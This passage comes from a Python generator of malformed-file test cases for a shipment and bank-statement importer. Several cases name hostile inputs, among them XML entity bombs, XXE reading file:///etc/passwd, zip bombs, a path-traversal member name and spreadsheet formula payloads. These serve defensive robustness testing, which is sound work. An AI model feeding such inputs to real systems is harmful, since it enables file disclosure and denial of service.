    for k, amount in enumerate(amounts, start=1):
        body += ["<STMTTRN>", "<TRNTYPE>CREDIT", f"<DTPOSTED>202610{k:02d}120000", f"<TRNAMT>{amount}",
                 f"<FITID>F{k:04d}", f"<NAME>付款 {k}", "</STMTTRN>"]
    tail = ["</BANKTRANLIST>", "<LEDGERBAL>", "<BALAMT>1000.00", "<DTASOF>20261031", "</LEDGERBAL>", "</STMTRS>",
            "</STMTTRNRS>", "</BANKMSGSRSV1>", "</OFX>"]
    return ("\r\n".join(head + body + tail) + "\r\n").encode("utf-8")


def ofx_bad_amounts() -> bytes:
    return ofx(["100.00", "NaN", "200.00", "1e309", "-+5"])


# =========================================================================== the table

@dataclass(frozen=True)
class Case:
    name: str
    file: str
    what: str
    expect: str                                  # "error" or "rejects"
    build: Callable[[], bytes]
    rejected: dict[int, str | None] = field(default_factory=dict)   # source row -> regex the column named
                                                                    # fullmatches (None: any, or none)
    loaded: tuple[int, ...] = ()                 # exactly these source rows are in the table
    either: tuple[int, ...] = ()                 # rows that may be loaded, rejected or counted as blank/footer
    values: dict[int, dict[str, str]] = field(default_factory=dict)  # row -> canonical field -> text in the CSV
    records: int | None = None                   # preamble + header + data + blank + footer lines of the table
    error_match: str | None = None               # regex for the error line (besides naming the file)
    isolate: bool = False                        # may crash or take GBs: only ever run in a limited subprocess


def rows(first: int, last: int, *skip: int) -> tuple[int, ...]:
    return tuple(r for r in range(first, last + 1) if r not in skip)


CASES: list[Case] = [
    # ---- line ends, quoting, footers
    Case("cr_only_line_ends", "cr_only.csv", "shipments with old-Mac CR-only line ends", "rejects", cr_only,
         loaded=rows(2, 6), records=6),
    Case("unclosed_quote_line_100", "unclosed_quote.csv",
         "200 shipments; line 100 opens a quote in 收件省份 that is never closed", "rejects", unclosed_quote,
         rejected={100: None}, loaded=rows(2, 201, 100), records=201),
    Case("footer_label_variants", "footer_label_variants.csv",
         "five shipments and three totals lines labelled 本页合计, 合计金额, 人民币合计", "rejects",
         footer_label_variants, loaded=rows(2, 6), records=9),
    Case("mixed_line_ends", "mixed_line_ends.csv", "shipments whose lines end in LF, CRLF and CR in turn",
         "rejects", mixed_line_ends, loaded=rows(2, 7), records=7),
    Case("unclosed_quote_then_quoted_newline", "unclosed_quote_then_newline.csv",
         "line 3 opens a quote never closed; line 6 has a quoted cell running onto line 7", "rejects",
         unclosed_quote_then_quoted_newline, rejected={3: None}, loaded=(2, 4, 5, 6, 8, 9, 10, 11), records=10,
         values={6: {"warehouse": "杭州仓\n二号库"}}),
    Case("duplicate_mapped_header", "duplicate_mapped_header.csv", "the mapped column 运单号 twice in the header",
         "error", duplicate_mapped_header, error_match="运单号.*2 times"),
    Case("heji_as_waybill", "heji_waybill.csv",
         "a data row (line 5) whose waybill cell reads 合计, with 5 more rows after it", "rejects", heji_waybill,
         loaded=rows(2, 10, 5), either=(5,), records=10),
    Case("quoted_newlines_gbk", "alipay_trade_quoted_newlines_gbk.csv",
         "Alipay 业务明细 (GBK) with LF, CRLF and blank lines inside quoted 商品名称/备注 cells", "rejects",
         quoted_newlines_gbk, loaded=(6, 9, 12), records=12,
         values={6: {"item_name": "连衣裙\n（加长款）"}, 9: {"item_name": "手机壳\n\n两行空行"}, 12: {"amount": "-35.80"}}),
    Case("ragged_rows_gbk", "cmb_ragged_gbk.csv",
         "CMB statement (GBK): a trailing comma, a row cut after 交易时间, a row with 2 cells past the header",
         "rejects", ragged_gbk, rejected={9: "借方金额|贷方金额", 11: None}, loaded=(7, 8, 10, 12), records=13),
    # ---- encodings and control bytes
    Case("gbk_rows_in_utf8", "gbk_rows_in_utf8.csv", "UTF-8 (BOM) shipments with lines 4, 7 and 9 written in GBK",
         "rejects", gbk_rows_in_utf8, rejected={4: None, 7: None, 9: None}, loaded=rows(2, 11, 4, 7, 9),
         records=11),
    Case("utf8_row_in_gbk", "cmb_utf8_row_in_gbk.csv",
         "CMB statement in GBK with line 9 written in UTF-8 (not valid GBK)", "rejects", utf8_row_in_gbk,
         rejected={9: None}, loaded=(7, 8, 10, 11), records=12),
    Case("nul_row", "nul_row.csv", "shipments where line 6 is 60 NUL bytes", "rejects", nul_row,
         rejected={6: None}, loaded=rows(2, 11, 6), records=11),
    Case("bom_in_the_middle", "bom_in_the_middle.csv",
         "two exports pasted together: BOM + header again on line 5", "rejects", bom_in_the_middle,
         rejected={5: None}, loaded=(2, 3, 4, 6, 7, 8), records=8),
    Case("header_twice", "header_twice.csv", "the header line written twice (lines 1 and 2)", "rejects",
         header_twice, loaded=(3, 4, 5, 6), either=(2,), records=6),
    Case("duplicate_unmapped_columns", "duplicate_unmapped_columns.csv",
         "two extra columns both named 备注 that the template does not map", "rejects",
         duplicate_unmapped_columns, loaded=(2, 3, 4), records=4),
    Case("zero_width_keys", "zero_width_keys.csv",
         "waybills with U+200B / U+2060 / U+200D inside or around them", "rejects", zero_width_keys,
         loaded=(2, 3, 4, 5), records=5,
         values={2: {"waybill_no": waybill(1)}, 3: {"waybill_no": waybill(2)}, 4: {"waybill_no": waybill(3)},
                 5: {"waybill_no": waybill(4)}}),
    Case("fullwidth_keys", "fullwidth_keys.csv", "a waybill and an order id in full-width letters/digits",
         "rejects", fullwidth_keys, loaded=(2, 3, 4), records=4,
         values={2: {"waybill_no": waybill(1)}, 4: {"order_id": f"35123456789{3:08d}"}}),
    Case("huge_cell", "huge_cell.csv",
         "a 1,000,000-character 仓库 cell on line 3 (Excel holds at most 32,767 characters)", "rejects",
         huge_cell, rejected={3: "仓库"}, loaded=(2, 4, 5), records=5),
    # ---- numbers
    Case("amount_bad_grouping", "amount_bad_grouping.csv", "收款金额 written 1,2,3 on line 4", "rejects",
         amount_case("1,2,3"), rejected={4: "收款金额"}, loaded=(2, 3, 5, 6), records=6,
         values={2: {"amount": "13560.00"}}),
    Case("amount_plus_minus", "amount_plus_minus.csv", "收款金额 written +-5 on line 4", "rejects",
         amount_case("+-5"), rejected={4: "收款金额"}, loaded=(2, 3, 5, 6), records=6),
    Case("amount_double_minus", "amount_double_minus.csv", "收款金额 written --5 on line 4", "rejects",
         amount_case("--5"), rejected={4: "收款金额"}, loaded=(2, 3, 5, 6), records=6),
    Case("amount_parentheses", "amount_parentheses.csv", "收款金额 (100.00), accountants' negative, on line 4",
         "rejects", amount_case("(100.00)"), loaded=(2, 3, 4, 5, 6), records=6,
         values={4: {"amount": "-100.00"}, 5: {"amount": "-20.50"}}),
    Case("amount_yen_minus_zero", "amount_yen_minus_zero.csv", "收款金额 ¥-0 on line 4", "rejects",
         amount_case("¥-0"), loaded=(2, 3, 4, 5, 6), records=6, values={4: {"amount": "0.00"}}),
    Case("amount_nan", "amount_nan.csv", "收款金额 NaN on line 4", "rejects", amount_case("NaN"),
         rejected={4: "收款金额"}, loaded=(2, 3, 5, 6), records=6),
    Case("amount_1e309", "amount_1e309.csv", "收款金额 1e309 (a float overflow) on line 4", "rejects",
         amount_case("1e309"), rejected={4: "收款金额"}, loaded=(2, 3, 5, 6), records=6),
    Case("weight_decimal_comma", "weight_decimal_comma.csv", "重量(kg) written 1,5 (decimal comma) on line 4",
         "rejects", ship_case("重量(kg)", "1,5"), rejected={4: r"重量\(kg\)"}, loaded=(2, 3, 5, 6), records=6),
    Case("weight_negative", "weight_negative.csv", "重量(kg) -1.20 on line 4", "rejects",
         ship_case("重量(kg)", "-1.20"), rejected={4: r"重量\(kg\)"}, loaded=(2, 3, 5, 6), records=6),
    Case("length_negative", "length_negative.csv", "长(cm) -20 on line 4", "rejects", ship_case("长(cm)", "-20"),
         rejected={4: r"长\(cm\)"}, loaded=(2, 3, 5, 6), records=6),
    Case("pieces_negative", "pieces_negative.csv", "件数 -1 on line 4", "rejects", ship_case("件数", "-1"),
         rejected={4: "件数"}, loaded=(2, 3, 5, 6), records=6),
    # ---- dates
    Case("date_feb_30", "cmb_date_feb30_gbk.csv", "CMB (GBK) 交易日 2026-02-30 on line 9 (joined with 交易时间)",
         "rejects", cmb_date("2026-02-30"), rejected={9: "交易日"}, loaded=(7, 8, 10, 11), records=12),
    Case("date_zero", "cmb_date_zero_gbk.csv", "CMB (GBK) 交易日 0000-00-00 on line 9", "rejects",
         cmb_date("0000-00-00"), rejected={9: "交易日"}, loaded=(7, 8, 10, 11), records=12),
    Case("formula_payloads", "cmb_formula_payloads_gbk.csv",
         "CMB statement (GBK) whose 摘要/对方户名 cells are spreadsheet formulas, and =1+1 as an amount on line 13",
         "rejects", formula_payloads, rejected={13: "贷方金额"}, loaded=rows(7, 12), records=14,
         values={7: {"amount": "-1000.00", "balance": "-1000.00"}, 8: {"amount": "5.00"}}),
    # ---- empty, header only, not a table at all
    Case("header_only_xlsx", "sf_header_only.xlsx", "SF bill: title block, header and a 合计 row of zeros, no data",
         "rejects", header_only_xlsx, records=7),
    Case("header_only_gbk", "cmb_header_only_gbk.csv", "CMB statement (GBK): preamble, header, 合计, no data",
         "rejects", header_only_gbk, records=7),
    Case("empty_csv", "empty.csv", "0 bytes", "error", lambda: b"", error_match="empty"),
    Case("bom_only_csv", "bom_only.csv", "a UTF-8 BOM and a line end, nothing else", "error",
         lambda: b"\xef\xbb\xbf\r\n", error_match="empty"),
    Case("empty_xlsx", "empty.xlsx", "0 bytes named .xlsx", "error", lambda: b"", error_match="empty"),
    Case("garbage_csv", "garbage.csv", "64 KB of random bytes named .csv", "error", random_bytes(65536, 16)),
    Case("garbage_xlsx", "garbage.xlsx", "the ZIP magic PK\\3\\4 then 8 KB of random bytes", "error",
         random_bytes(8192, 17, b"PK\x03\x04")),
    Case("csv_named_xlsx", "shipments_really_csv.xlsx", "a UTF-8 CSV saved with an .xlsx name", "rejects",
         csv_named_xlsx, loaded=(2, 3, 4), records=4),
    # ---- XLSX
    Case("xlsx_stray_cell_xfd1048576", "wms_stray_cell.xlsx",
         "WMS sheet (3 rows) plus one stray cell at XFD1048576", "rejects", stray_cell_xfd,
         loaded=(2, 3, 4), either=(1048576,), records=1048576, isolate=True),
    Case("xlsx_huge_dimension", "wms_huge_dimension.xlsx",
         "WMS sheet (3 rows) declaring <dimension ref=A1:XFD1048576>", "rejects", huge_dimension,
         loaded=(2, 3, 4), records=4, isolate=True),
    Case("xlsx_ratio_bomb", "wms_ratio_bomb.xlsx", "WMS workbook whose sheet XML inflates 1000 times (40 MiB)",
         "error", xlsx_ratio_bomb, error_match=r"(?i)limit max_zip_ratio", isolate=True),
    Case("xlsx_broken_xml", "wms_broken_xml.xlsx", "sheet1.xml cut off inside row 3 (not well-formed)", "error",
         broken_sheet_xml),
    Case("xlsx_error_cells", "wms_error_cells.xlsx", "#DIV/0! in 出库数量 (row 3) and #N/A in 出库时间 (row 5)",
         "rejects", error_cells, rejected={3: "出库数量", 5: "出库时间"}, loaded=(2, 4, 6), records=6),
    Case("xlsx_huge_date_serial", "wms_huge_date_serial.xlsx",
         "date-formatted 出库时间 cells; row 3 is serial 1e15 and row 5 is -5, outside any calendar", "rejects",
         huge_date_serial, rejected={3: "出库时间", 5: "出库时间"}, loaded=(2, 4), records=5),
    Case("xlsx_inf_nan_numbers", "wms_inf_nan.xlsx", "出库数量 stored as 1e309 (row 3) and NaN (row 4)", "rejects",
         xlsx_inf_quantity, rejected={3: "出库数量", 4: "出库数量"}, loaded=(2, 5), records=5),
    Case("xlsx_missing_shared_string", "wms_missing_shared_string.xlsx",
         "row 3's 出库单号 points at shared string 9999 of a workbook with none (a damaged workbook)", "error",
         missing_shared_string),
    Case("xlsx_billion_laughs", "wms_billion_laughs.xlsx",
         "a DOCTYPE with 10 levels of 10x entities (10^9 'lol's) used in row 3", "error", xml_entity_bomb_xlsx,
         isolate=True),
    Case("xlsx_shared_strings_bomb", "wms_shared_strings_bomb.xlsx",
         "shared strings declaring 2,000,000,000 entries, holding 100,000; rows 2-4 use three of them", "rejects",
         shared_strings_bomb, loaded=(2, 3, 4), records=4, values={4: {"item_name": "品名099999"}}, isolate=True),
    Case("xlsx_huge_styles", "wms_huge_styles.xlsx",
         "styles.xml declaring 100,000,000 cell formats, holding 200,000; row 3 uses the last", "rejects",
         huge_styles, loaded=(2, 3, 4), records=4, values={3: {"qty": "2"}}, isolate=True),
    # ---- CSV, very wide
    Case("csv_100000_columns", "shipments_100000_columns.csv", "a shipments header with 100,000 more columns",
         "error", csv_100000_columns, error_match="limit max_columns"),
    Case("csv_row_of_100000_cells", "shipments_row_100000_cells.csv",
         "shipments whose line 3 has 100,000 filled cells past the header", "rejects", csv_row_of_100000_cells,
         rejected={3: None}, loaded=(2, 4, 5), records=5),
    # ---- ZIP
    Case("zip_bomb_1gib", "alipay_zip_bomb.zip",
         "Alipay 账务明细 ZIP whose member expands to 1 GiB (a cell padded with spaces); 1 MB on disk", "error",
         zip_bomb, error_match=r"(?i)limit.*\d+ ?[KMG]i?B|\d+ ?[KMG]i?B.*limit", isolate=True),
    Case("zip_ratio_bomb", "zip_ratio_bomb.zip", "a shipments CSV member of 40 MiB deflated 1000 times (40 KB)",
         "error", zip_ratio_bomb, error_match=r"(?i)limit max_zip_ratio", isolate=True),
    Case("zip_corrupt_deflate", "alipay_corrupt_deflate.zip",
         "the 账务明细 member deflated, then bytes 1-3 of its deflate stream flipped", "error", zip_corrupt_deflate),
    Case("zip_bad_crc", "alipay_bad_crc.zip", "every member's CRC-32 flipped in both headers", "error",
         zip_bad_crc),
    Case("zip_encrypted", "alipay_encrypted.zip", "the encrypted flag set on every member", "error", zip_encrypted,
         error_match="(?i)encrypt"),
    Case("zip_truncated", "alipay_truncated.zip", "the sample ZIP cut at two thirds (no central directory)", "error",
         zip_truncated, error_match=r"(?i)(?<![.\w])zip\b"),
    Case("zip_in_zip", "zip_in_zip.zip", "a ZIP whose only member is another ZIP", "error", zip_in_zip),
    Case("zip_traversal_name", "zip_traversal_name.zip", "the 账务明细 member named ../../../../tmp/evil/账务明细.csv",
         "rejects", zip_traversal_name, loaded=(6, 7, 8), records=12),
    Case("zip_many_members", "zip_many_members.zip", "the 账务明细 member among 1,500 one-line junk text members",
         "rejects", zip_many_members, loaded=(6, 7, 8), records=12),
    # ---- bank files
    Case("mt940_bad_amounts", "mt940_bad_amounts.sta", "MT940 :61: lines with amounts 1,2,3 (line 7) and --5,00 "
         "(line 11)", "rejects", mt940_bad_amounts, rejected={7: None, 11: None}, loaded=(5, 9)),
    Case("mt940_absurd_lengths", "mt940_absurd_lengths.sta",
         "MT940 :61: with a 100,000-digit amount (line 7), a 40,000-character reference (line 9) and a "
         "40,000-character :86: on line 10", "rejects", mt940_absurd_lengths, rejected={7: "amount", 9: None},
         loaded=(5, 11)),
    Case("mt940_truncated", "mt940_truncated.sta", "MT940 cut before the :62F: closing balance", "rejects",
         mt940_truncated, loaded=(5, 7)),
    Case("camt_billion_laughs", "camt_billion_laughs.xml", "camt.053 with a billion-laughs DOCTYPE", "error",
         camt_billion_laughs, error_match="(?i)entit"),
    Case("camt_external_entity", "camt_xxe.xml", "camt.053 with an external entity on file:///etc/passwd", "error",
         camt_external_entity, error_match="(?i)entit"),
    Case("camt052_billion_laughs", "camt052_billion_laughs.xml", "camt.052 report with a billion-laughs DOCTYPE",
         "error", camt052_billion_laughs, error_match="(?i)entit"),
    Case("camt054_billion_laughs", "camt054_billion_laughs.xml", "camt.054 notification with a billion-laughs "
         "DOCTYPE", "error", camt054_billion_laughs, error_match="(?i)entit"),
    Case("camt052_external_entity", "camt052_xxe.xml", "camt.052 with an external entity on file:///etc/passwd",
         "error", camt052_external_entity, error_match="(?i)entit"),
    Case("camt054_external_entity", "camt054_xxe.xml", "camt.054 with an external entity on file:///etc/passwd",
         "error", camt054_external_entity, error_match="(?i)entit"),
    Case("camt_external_dtd", "camt_external_dtd.xml", "camt.053 whose DOCTYPE loads a DTD from the network",
         "error", camt_external_dtd, error_match="(?i)external"),
    Case("camt_deep_nesting", "camt_deep_nesting.xml", "camt.053 with 10,000 nested elements in one entry",
         "error", camt_deep_nesting, error_match="limit max_xml_depth"),
    Case("camt_bad_dates", "camt_bad_dates.xml", "camt.053 entries booked 2026-02-30 and 0000-00-00", "rejects",
         camt_bad_dates, rejected={4: None, 6: None}, loaded=(3, 5)),
    Case("ofx_bad_amounts", "ofx_bad_amounts.ofx", "OFX TRNAMT NaN, 1e309 and -+5 between good ones", "rejects",
         ofx_bad_amounts, rejected={32: None, 46: None, 53: None}, loaded=(25, 39)),
]

BY_NAME = {c.name: c for c in CASES}
assert len(BY_NAME) == len(CASES), "case names must be unique"
assert len({c.file for c in CASES}) == len(CASES), "file names must be unique"


def generate(out_dir: str | Path = DEFAULT_OUT) -> dict[str, Path]:
    """Write every case's file into ``out_dir``; return name -> path."""
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    paths = {}
    for case in CASES:
        path = out / case.file
        path.write_bytes(case.build())
        paths[case.name] = path
    return paths


if __name__ == "__main__":
    written = generate(sys.argv[1] if len(sys.argv) > 1 else DEFAULT_OUT)
    total = sum(p.stat().st_size for p in written.values())
    print(f"{len(written)} files, {total / 1e6:.1f} MB, in {Path(next(iter(written.values()))).parent}")
